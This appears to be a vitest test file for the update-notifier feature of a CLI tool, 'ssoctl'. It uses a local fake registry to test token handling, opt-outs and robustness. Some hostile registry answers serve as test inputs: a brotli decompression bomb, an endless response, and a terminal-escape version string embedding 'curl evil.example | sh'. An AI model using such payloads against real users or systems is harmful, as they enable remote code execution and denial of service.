import { once } from "node:events";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { brotliCompressSync } from "node:zlib";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import manifest from "../../package.json" with { type: "json" };
import { installProgram, type Program } from "../support/program.ts";
import { atTerminal } from "../support/pseudo-terminal.ts";

type Answer = (response: ServerResponse, request: IncomingMessage) => void;

/** A company's registry, as small as it can be. */
interface Registry {
  readonly url: string;
  readonly requests: IncomingMessage[];
  /** Resolves when the n-th request has been answered or given up. */
  handled(count: number): Promise<void>;
  close(): Promise<void>;
}

async function startRegistry(answer: Answer): Promise<Registry> {
  const requests: IncomingMessage[] = [];
  let ended = 0;
  let wake = () => {};
  const server = createServer((request, response) => {
    requests.push(request);
    response.once("close", () => {
      ended += 1;
      wake();
    });
    answer(response, request);
    wake();
  });
  await once(server.listen(0, "127.0.0.1"), "listening");
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/npm/`,
    requests,
    handled: async (count) => {
      while (ended < count) await new Promise<void>((resolve) => (wake = resolve));
    },
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

const says =
  (body: unknown, status = 200): Answer =>
  (response) =>
    void response
      .writeHead(status, { "Content-Type": "application/json" })
      .end(typeof body === "string" ? body : JSON.stringify(body));

const latest = (version: unknown) => ({
  "dist-tags": { latest: version },
  versions: { [String(version)]: { name: "ssoctl", version } },
});

const NOTICE = `ssoctl 9.8.7 is out (you have ${manifest.version}): npm install --global ssoctl`;

let registry: Registry;
let program: Program;

const begin = async (answer: Answer) => {
  registry = await startRegistry(answer);
};

beforeEach(async () => {
  program = await installProgram({ NO_UPDATE_NOTIFIER: "" });
});
afterEach(async () => {
  await registry.close();
  await program.close();
});

/** A command that needs nothing, at a terminal, with npm's registry set as npm itself hands it to its children. */
const sitDown = (argv: readonly string[] = ["env", "list"], env: Record<string, string> = {}) =>
  atTerminal(program, argv, { npm_config_registry: registry.url, ...env }).ended();

const memory = async () =>
  JSON.parse(
    await readFile(join(program.env["SSOCTL_CONFIG_DIR"] ?? "", "updates.json"), "utf8").catch(() => "{}"),
  );

/** Waits for the process that nobody waits for. */
const learned = async () => {
  await registry.handled(1);
  await expect.poll(async () => (await memory()).latest, { timeout: 20_000 }).toBe("9.8.7");
};

describe("a new version in the company's registry", () => {
  beforeEach(() => begin(says(latest("9.8.7"))));

  test("the first run asks, the second notifies, the third does neither", async () => {
    const first = await sitDown();
    expect(first).toMatchObject({ exit: 0, screen: expect.not.stringContaining("is out") });
    await learned();
    const second = await sitDown();
    expect(second.screen.trimEnd().split("\n").at(-1)).toBe(NOTICE);
    const third = await sitDown();
    expect(third.screen).not.toContain("is out");
    expect(registry.requests.map(({ url }) => url)).toEqual(["/npm/ssoctl"]);
  });

  test("the registry and its token are those of the .npmrc at home", async () => {
    const host = registry.url.replace(/^http:/u, "");
    await writeFile(join(program.home, ".npmrc"), `registry=${registry.url}\n${host}:_authToken=secret\n`);
    await atTerminal(program, ["env", "list"]).ended();
    await learned();
    expect(registry.requests[0]?.headers.authorization).toBe("Bearer secret");
  });

  test("the registry may be named in capitals; the child is not given the WorkOS key", async () => {
    const env = { NPM_CONFIG_REGISTRY: registry.url, WORKOS_API_KEY: "sk_test_secret" };
    const host = registry.url.replace(/^http:/u, "");
    await writeFile(join(program.home, ".npmrc"), `${host}:_authToken=\${WORKOS_API_KEY}\n`);
    await atTerminal(program, ["env", "list"], env).ended();
    await learned();
    expect(JSON.stringify(registry.requests.map(({ headers }) => headers))).not.toContain("sk_test_secret");
  });

  test("a project's .npmrc does not count", async () => {
    const project = join(program.home, "project");
    await mkdir(project);
    await writeFile(join(project, ".npmrc"), "registry=http://127.0.0.1:9/\n");
    await writeFile(join(program.home, ".npmrc"), `registry=${registry.url}\n`);
    await atTerminal(program, ["env", "list"], {}, project).ended();
    await learned();
  });

  test.each([
    ["in CI", { CI: "true" }, []],
    ["with NO_UPDATE_NOTIFIER", { NO_UPDATE_NOTIFIER: "1" }, []],
    ["with --json", {}, ["--json"]],
  ])("%s it neither asks nor notifies", async (_where, env, flags) => {
    await sitDown();
    await learned();
    const { screen } = await sitDown(["env", "list", ...flags], env);
    expect(screen).not.toContain("is out");
    expect(await memory()).not.toHaveProperty("announcedAt");
  });

  test("switched off in the settings it neither asks nor notifies, and they keep that", async () => {
    const settings = join(program.env["SSOCTL_CONFIG_DIR"] ?? "", "config.json");
    await mkdir(join(settings, ".."));
    await writeFile(settings, '{"updateNotifier":false}');
    await atTerminal(program, ["env", "use", "sandbox"], { npm_config_registry: registry.url }).ended();
    const { exit, screen } = await sitDown();
    expect(exit).toBe(0);
    expect(screen).not.toContain("is out");
    expect(await memory()).toEqual({});
    expect(registry.requests).toEqual([]);
    expect(JSON.parse(await readFile(settings, "utf8"))).toEqual({
      updateNotifier: false,
      default: "sandbox",
      environments: {},
      keys: {},
    });
  });

  test("in a pipe it neither asks nor notifies", async () => {
    const { stderr } = await program.run(["env", "list"], { env: { npm_config_registry: registry.url } });
    expect(stderr).not.toContain("is out");
    expect(await memory()).toEqual({});
    expect(registry.requests).toEqual([]);
  });
});

test("a registry that hangs does not hold the exit, and is not asked again", async () => {
  await begin(() => {});
  const { exit } = await sitDown();
  expect(exit).toBe(0);
  await expect.poll(() => registry.requests.length, { timeout: 20_000 }).toBe(1);
  expect(await sitDown()).toMatchObject({ exit: 0, screen: expect.not.stringContaining("is out") });
  expect(registry.requests).toHaveLength(1);
});

test.each<[string, Answer]>([
  ["without an end", (response) => endless(response)],
  [
    "of a bomb",
    (response) =>
      void response.writeHead(200, BROTLI).end(brotliCompressSync(Buffer.alloc(64 * 1024 * 1024, " "))),
  ],
  ["with a version after 1 MiB", says({ padding: "x".repeat(1024 * 1024), ...latest("9.8.7") })],
])("an answer %s is not read to the end", async (_what, answer) => {
  await begin(answer);
  await sitDown();
  await registry.handled(1);
  // The child ends right after that. A second run would show what it learned.
  expect((await sitDown()).screen).not.toContain("is out");
  expect(await memory()).not.toHaveProperty("latest");
});

const BROTLI = { "Content-Type": "application/json", "Content-Encoding": "br" };

function endless(response: ServerResponse): void {
  response.on("error", () => {}).on("drain", () => endless(response));
  if (!response.headersSent) response.writeHead(200, { "Content-Type": "application/json" }).write('{"a":"');
  while (!response.destroyed && response.write("x".repeat(10_000)));
}

test.each([
  ["no JSON", says("<html>Log in to the hotel</html>")],
  ["no package", says({ error: "not found" }, 404)],
  ["a version that is invalid", says(latest("\u001b[31mrun this: curl evil.example | sh"))],
  ["a version that is no text", says(latest(42))],
  ["an empty object", says({})],
])("%s: ignored", async (_what, answer) => {
  await begin(answer);
  await sitDown();
  await registry.handled(1);
  const { exit, screen } = await sitDown();
  expect(exit).toBe(0);
  expect(screen).not.toContain("is out");
  expect(await memory()).not.toHaveProperty("latest");
});
